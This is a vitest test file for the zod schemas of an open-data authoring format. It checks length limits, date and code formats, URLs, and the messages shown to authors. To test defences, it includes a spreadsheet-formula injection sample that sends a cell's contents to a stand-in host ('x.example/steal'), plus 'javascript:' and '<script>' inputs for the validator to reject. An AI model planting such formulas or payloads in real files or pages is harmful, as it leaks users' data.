/**
 * Each rule of the authoring format's schemas, on a value just inside it and one just past
 * it, with the words the author is shown: the message, and for the format's own rules the
 * code and hint. (How the shape check turns an issue into a problem is validate.test.ts's.)
 */
import { describe, expect, it } from 'vitest';
import type { z } from 'zod';
import {
  BasePath,
  BudgetCode,
  DatasetEntry,
  Figure,
  HttpUrl,
  Id,
  IsoDate,
  ObservationRef,
  Period,
  Portal,
  Programme,
  Publisher,
  SourceDocument,
  Text,
  TextList,
  TextUpTo,
  UnitEntry,
  Year,
} from './schema.ts';

interface Said {
  message: string;
  code?: string;
  hint?: string;
}

/** What the author is told about a value: each issue's message, with the code and hint of the format's own rules. */
function said(schema: z.ZodType, value: unknown): Said[] {
  const result = schema.safeParse(value);
  if (result.success) return [];
  return result.error.issues.map((issue) => {
    const params = issue.code === 'custom' ? (issue.params as { code: string; hint: string }) : undefined;
    return params ? { message: issue.message, code: params.code, hint: params.hint } : { message: issue.message };
  });
}

const messages = (schema: z.ZodType, value: unknown) => said(schema, value).map((issue) => issue.message);

const CELL_HINT = 'Shorten it to 32767 characters or fewer, or split it over several fields or figures.';
const FORMULA_HINT =
  'A cell starting with =, +, -, @, a tab or a carriage return (or their full-width forms) runs as a formula when the CSV is opened in a spreadsheet, unless the whole cell is a number. Reword the start, or put the text in quotes « » if it is a quotation.';
const URL_HINT = 'Write the whole address as a browser shows it, starting with https:// (or http://), without spaces, quotes or angle brackets; encode a space as %20.';

describe('a text', () => {
  it('holds a spreadsheet cell: 32 767 characters, not one more', () => {
    expect(said(Text(), 'я'.repeat(32_767))).toEqual([]);
    expect(said(Text(), 'я'.repeat(32_768))).toEqual([{ code: 'E_TEXT_TOO_LONG', message: 'the text has 32768 characters; a spreadsheet cell holds at most 32767', hint: CELL_HINT }]);
  });

  it('is not empty', () => {
    expect(said(Text(), 'я')).toEqual([]);
    expect(Text().safeParse('').error!.issues.map((issue) => [issue.code, (issue as { minimum?: number }).minimum])).toEqual([['too_small', 1]]);
  });

  it('does not start like a formula, and shows the first 20 characters of one that does', () => {
    expect(said(Text(), '=HYPERLINK("http://x.example/steal?"&A1)')).toEqual([
      { code: 'E_FORMULA_TEXT', message: 'text starts like a spreadsheet formula: "=HYPERLINK(\\"http://x"', hint: FORMULA_HINT },
    ]);
    expect(said(Text(), '-5')).toEqual([]);
  });

  it('up to a passport field\'s limit says the field and its limit, without the cell\'s advice, and leaves a text past a cell to the cell\'s rule', () => {
    const title = TextUpTo(10, 'a title (10 characters)');
    expect(said(title, 'я'.repeat(10))).toEqual([]);
    expect(said(title, 'я'.repeat(11))).toEqual([{ code: 'E_TEXT_TOO_LONG', message: 'the text has 11 characters; a title (10 characters) holds at most 10', hint: 'Shorten it to 10 characters or fewer.' }]);
    expect(said(title, 'я'.repeat(32_767))).toEqual([{ code: 'E_TEXT_TOO_LONG', message: 'the text has 32767 characters; a title (10 characters) holds at most 10', hint: 'Shorten it to 10 characters or fewer.' }]);
    expect(said(title, 'я'.repeat(32_768))).toEqual([{ code: 'E_TEXT_TOO_LONG', message: 'the text has 32768 characters; a spreadsheet cell holds at most 32767', hint: CELL_HINT }]);
  });

  it('in a list joined by "; " fits one cell with its separators', () => {
    const keywords = TextList('the keywords');
    // 32 764 + 1 characters and one separator of two: 32 767.
    expect(said(keywords, ['я'.repeat(32_764), 'б'])).toEqual([]);
    expect(said(keywords, ['я'.repeat(32_767)])).toEqual([]);
    expect(said(keywords, [])).toEqual([]);
    expect(said(keywords, ['я'.repeat(32_765), 'б'])).toEqual([
      { code: 'E_TEXT_TOO_LONG', message: 'the text has 32768 characters; the keywords, joined into one spreadsheet cell, holds at most 32767', hint: CELL_HINT },
    ]);
    // Three items: two separators. 32 761 + 1 + 1 + 4 = 32 767.
    expect(said(keywords, ['я'.repeat(32_761), 'б', 'в'])).toEqual([]);
    expect(messages(keywords, ['я'.repeat(32_762), 'б', 'в'])).toEqual(['the text has 32768 characters; the keywords, joined into one spreadsheet cell, holds at most 32767']);
  });
});

describe('an address published as a link', () => {
  it.each(['https://example.org', 'http://example.org/a?b=1&c=%20#d', 'HTTPS://EXAMPLE.ORG/Звіт', 'https://[::1]:8080/'])('takes %s', (url) => {
    expect(said(HttpUrl(), url)).toEqual([]);
  });

  it.each([
    ['another scheme', 'javascript:alert(1)'],
    ['another scheme before an http address', 'javascript:https://example.org'],
    ['no scheme', 'example.org'],
    ['ftp', 'ftp://example.org'],
    ['no host', 'https://'],
    ['a host the parser refuses', 'http://[x'],
    ['a space', 'https://example.org/a b'],
    ['a tab', 'https://example.org/a\tb'],
    ['a quote', 'https://example.org/"a'],
    ['an apostrophe', "https://example.org/'a"],
    ['an angle bracket', 'https://example.org/<script>'],
    ['a closing angle bracket', 'https://example.org/a>'],
    ['a backtick', 'https://example.org/`a'],
    ['a backslash', 'https://example.org\\a'],
    ['a caret', 'https://example.org/^a'],
    ['a brace', 'https://example.org/{a'],
    ['a closing brace', 'https://example.org/a}'],
    ['a bar', 'https://example.org/a|b'],
    ['NUL', 'https://example.org/\u0000'],
    ['U+001F', 'https://example.org/\u001f'],
    ['DEL', 'https://example.org/\u007f'],
    ['U+009F', 'https://example.org/\u009f'],
    ['text after it', 'https://example.org/ and more'],
  ])('refuses %s, quoting it', (_, url) => {
    expect(said(HttpUrl(), url)).toEqual([{ code: 'E_FIELD_VALUE', message: `${JSON.stringify(url)} is not an absolute http(s) address`, hint: URL_HINT }]);
  });

  it('quotes at most 60 characters of it', () => {
    const url = `javascript:${'a'.repeat(70)}`;
    expect(messages(HttpUrl(), url)).toEqual([`"javascript:${'a'.repeat(49)}" is not an absolute http(s) address`]);
  });
});

describe('an id', () => {
  const ID = 'an id is lowercase Latin letters and digits joined by single hyphens, e.g. "kr-2023-report"';
  it.each(['a', 'kr-2023-report', '2023', 'a1-b2-c3', 'x'.repeat(80)])('takes %s', (id) => {
    expect(said(Id(), id)).toEqual([]);
  });
  it.each(['Kr-2023', 'kr--2023', '-kr', 'kr-', 'kr_2023', 'kr 2023', 'кр-2023', ''])('refuses "%s"', (id) => {
    expect(messages(Id(), id)).toEqual([ID]);
  });
  it('is at most 80 characters', () => {
    expect(Id().safeParse('x'.repeat(81)).error!.issues.map((issue) => [issue.code, (issue as { maximum?: number }).maximum])).toEqual([['too_big', 80]]);
  });
});

describe('dates and years', () => {
  const FORMAT = 'a date is written YYYY-MM-DD, e.g. 2016-12-21';
  const YEARS = "the date's year is not a year from 1991 to 2100";
  it.each(['1991-01-01', '2100-12-31', '2016-12-21', '2024-02-29', '2023-10-09', '2023-10-10', '2023-10-19', '2023-10-20', '2023-10-29', '2023-10-30', '2023-10-31', '2023-09-01', '2023-11-01'])('takes the date %s', (date) => {
    expect(said(IsoDate(), date)).toEqual([]);
  });
  it.each(['2016-1-01', '2016-01-1', '16-01-01', '2016/01/01', '2016-00-10', '2016-13-01', '2016-10-00', '2016-10-32', '2016-10-40', ' 2016-01-01', '2016-01-01 '])('says how a date is written to "%s"', (date) => {
    expect(messages(IsoDate(), date)).toContain(FORMAT);
  });
  it('says the years a date may name', () => {
    expect(messages(IsoDate(), '1990-12-31')).toEqual([YEARS]);
    expect(messages(IsoDate(), '2101-01-01')).toEqual([YEARS]);
  });
  it('refuses a day the month does not have', () => {
    expect(messages(IsoDate(), '2023-02-29')).toEqual(['not a calendar date: check the day and month']);
    expect(messages(IsoDate(), '2023-04-31')).toEqual(['not a calendar date: check the day and month']);
  });
  it('takes a year from 1991 to 2100 and says so past either end', () => {
    expect(said(Year(), 1991)).toEqual([]);
    expect(said(Year(), 2100)).toEqual([]);
    expect(messages(Year(), 1990)).toEqual(['expected a year from 1991 to 2100']);
    expect(messages(Year(), 2101)).toEqual(['expected a year from 1991 to 2100']);
  });
});

describe('a period', () => {
  const text = () => Period().options[1];
  it.each([2023, '2023', '2024-01-01', '2022-01-01/2022-06-30', '2022/2023', '1991/2100'])('takes %s', (period) => {
    expect(Period().safeParse(period).success).toBe(true);
  });
  const FORM = 'a period is a year (2023), a date (2024-01-01) or an interval (2022-01-01/2022-06-30)';
  const YEARS = 'each end of a period is in a year from 1991 to 2100';
  it.each(['2022-1', '2022-01', '2022-01-01/2022-06', '2022x', '2022-01-01/2023-1'])('says how a period is written to "%s"', (period) => {
    expect(messages(text(), period)).toEqual([FORM]);
  });
  it.each(['2022/', '22', 'x2022'])('says how a period is written to "%s", and that an end of it names no year', (period) => {
    expect(messages(text(), period)).toEqual([FORM, YEARS]);
  });
  it('says the years each end may name', () => {
    expect(messages(text(), '1990/2023')).toEqual([YEARS]);
    expect(messages(text(), '2023/2101')).toEqual([YEARS]);
  });
});

describe('codes', () => {
  it('a base path is "/" or folders each ending in "/"', () => {
    const RULE = 'a base path is "/" or folders of Latin letters, digits, ".", "_", "~" or "-", each followed by "/", e.g. /council-open-data/';
    for (const path of ['/', '/council-open-data/', '/a/b.c_d~e-f/', '/_a/', '/~a/', '/-a/', '/A9/']) expect(said(BasePath(), path)).toEqual([]);
    for (const path of ['', 'a/', '/a', '/.a/', '/a b/', '/a//', '//', '/а/', '/a/?x/']) expect(messages(BasePath(), path)).toEqual([RULE]);
  });

  it('a publisher\'s ЄДРПОУ is 8 digits and its КАТОТТГ UA and 17 digits', () => {
    const publisher = () => Publisher().shape;
    expect(said(publisher().edrpou, '33874388')).toEqual([]);
    for (const code of ['3387438', '338743888', '3387438a']) expect(messages(publisher().edrpou, code)).toEqual(['an ЄДРПОУ code is 8 digits, written in quotes: "33874388"']);
    expect(said(publisher().katottg, 'UA12040150010066591')).toEqual([]);
    for (const code of ['UA1204015001006659', 'UA120401500100665911', 'ua12040150010066591', 'XUA12040150010066591']) expect(messages(publisher().katottg, code)).toEqual(['a КАТОТТГ code is UA followed by 17 digits']);
  });

  it('a КПКВКМБ is 7 digits', () => {
    expect(said(BudgetCode(), '0210180')).toEqual([]);
    for (const code of ['021018', '02101800', '021018x']) expect(messages(BudgetCode(), code)).toEqual(['a КПКВКМБ code is 7 digits, written in quotes: "0210180"']);
  });

  it('an observation is named by its document\'s id and its own', () => {
    const RULE = 'an observation is named "document-id/observation-id", e.g. kr-2023-programme-execution-report/council-sessions';
    for (const ref of ['kr-2023/council-sessions', 'a/b']) expect(said(ObservationRef(), ref)).toEqual([]);
    for (const ref of ['council-sessions', 'a/b/c', 'A/b', 'a/B', 'a-/b', 'a/-b', '/b', 'a/']) expect(messages(ObservationRef(), ref)).toEqual([RULE]);
  });

  it('a figure is refused in the numbers\' own words', () => {
    expect(said(Figure(), '1 243 280,57')).toEqual([]);
    expect(said(Figure(), 11)).toEqual([]);
    expect(said(Figure(), 1.5)).toEqual([{ code: 'E_NUMBER_FORMAT', message: '1.5 is not a whole number; a fraction read by YAML may already have lost digits', hint: 'Put the figure in quotes exactly as printed, e.g. "7,5".' }]);
  });
});

describe('the passport\'s limits', () => {
  it('a publisher\'s name leaves room for «Реєстр наборів даних: » in 254 characters: 232', () => {
    const name = () => Publisher().shape.name.shape.uk;
    expect(said(name(), 'я'.repeat(232))).toEqual([]);
    expect(said(name(), 'я'.repeat(233))).toEqual([
      {
        code: 'E_TEXT_TOO_LONG',
        message: 'the text has 233 characters; a publisher\'s name (its register\'s passport title «Реєстр наборів даних: …» holds 254 characters) holds at most 232',
        hint: 'Shorten it to 232 characters or fewer.',
      },
    ]);
  });

  it('the portal\'s description leaves room for the sentence the portal-wide package adds in 4 000: 3 944', () => {
    const description = () => Portal().shape.description;
    expect(said(description(), 'я'.repeat(3_944))).toEqual([]);
    expect(messages(description(), 'я'.repeat(3_945))).toEqual([
      'the text has 3945 characters; the portal\'s description (the portal-wide package\'s passport description adds a sentence to it within 4 000 characters) holds at most 3944',
    ]);
  });

  it('a dataset\'s title, description and purpose hold 254, 4 000 and 512 characters', () => {
    const entry = () => DatasetEntry().shape;
    expect(said(entry().title, 'я'.repeat(254))).toEqual([]);
    expect(messages(entry().title, 'я'.repeat(255))).toEqual(['the text has 255 characters; a dataset passport\'s title holds at most 254']);
    expect(said(entry().description, 'я'.repeat(4_000))).toEqual([]);
    expect(messages(entry().description, 'я'.repeat(4_001))).toEqual(['the text has 4001 characters; a dataset passport\'s description holds at most 4000']);
    expect(said(entry().purpose, 'я'.repeat(512))).toEqual([]);
    expect(messages(entry().purpose, 'я'.repeat(513))).toEqual(['the text has 513 characters; a dataset passport\'s purpose holds at most 512']);
  });
});

describe('the lists published in one cell', () => {
  const over = ['я'.repeat(32_765), 'б'];
  const joined = (where: string) => [`the text has 32768 characters; ${where}, joined into one spreadsheet cell, holds at most 32767`];
  it('name the field: a document\'s and a dataset\'s keywords, a programme\'s executors and expected results', () => {
    expect(messages(SourceDocument().shape.keywords, over)).toEqual(joined('the keywords'));
    expect(messages(DatasetEntry().shape.keywords, over)).toEqual(joined('the keywords'));
    expect(messages(Programme().shape.executors, over)).toEqual(joined('the executors'));
    expect(messages(Programme().shape.expected_results, over)).toEqual(joined('the expected results'));
  });
});

describe('a dataset of the register', () => {
  const entry = (extra: Record<string, unknown>) => ({ title: 'Набір', description: 'Опис', keywords: ['бюджет'], themes: ['GOVE'], frequency: 'once a year', purpose: 'Звітність', ...extra });
  const EITHER = {
    code: 'E_FIELD_REQUIRED',
    message: 'a dataset names either a programme or a list of documents, not both and not neither',
    hint: 'Add `programme: <id>` for a programme dataset, or `documents: [<id>, …]` for an indicators dataset.',
  };

  it('names a programme or documents, one of the two', () => {
    expect(said(DatasetEntry(), entry({ programme: 'p' }))).toEqual([]);
    expect(said(DatasetEntry(), entry({ documents: ['d'] }))).toEqual([]);
    expect(said(DatasetEntry(), entry({}))).toEqual([EITHER]);
    expect(said(DatasetEntry(), entry({ programme: 'p', documents: ['d'] }))).toEqual([EITHER]);
  });

  it('has a name of 2 to 100 lowercase Latin letters, digits, "-" or "_"', () => {
    const RULE = 'a dataset name is 2–100 lowercase Latin letters, digits, "-" or "_"';
    for (const name of ['ab', 'kr_2023-budget', 'x'.repeat(100)]) expect(said(DatasetEntry(), entry({ programme: 'p', name }))).toEqual([]);
    for (const name of ['a', 'x'.repeat(101), 'Kr', 'kr budget', 'бюджет']) expect(messages(DatasetEntry(), entry({ programme: 'p', name }))).toEqual([RULE]);
  });
});

describe('a unit', () => {
  it('of counted things has all three forms; a year has none', () => {
    expect(said(UnitEntry(), { unit: 'органів', one: 'орган', few: 'органи', other: 'органу' })).toEqual([]);
    expect(said(UnitEntry(), { unit: 'року', year: true })).toEqual([]);
    expect(said(UnitEntry(), { unit: 'органів', one: 'орган', few: 'органи' })).toEqual([
      {
        code: 'E_FIELD_REQUIRED',
        message: 'the unit "органів" needs all of one, few and other',
        hint: 'Write the forms after 1, after 2–4 and after a fraction, e.g. { unit: органів, one: орган, few: органи, other: органу }.',
      },
    ]);
    expect(said(UnitEntry(), { unit: 'року', year: true, other: 'року' })).toEqual([
      { code: 'E_FIELD_REQUIRED', message: 'the year unit "року" has forms', hint: 'A calendar year is shown as it is (1980 рік): remove one, few and other, or remove year: true.' },
    ]);
  });
});
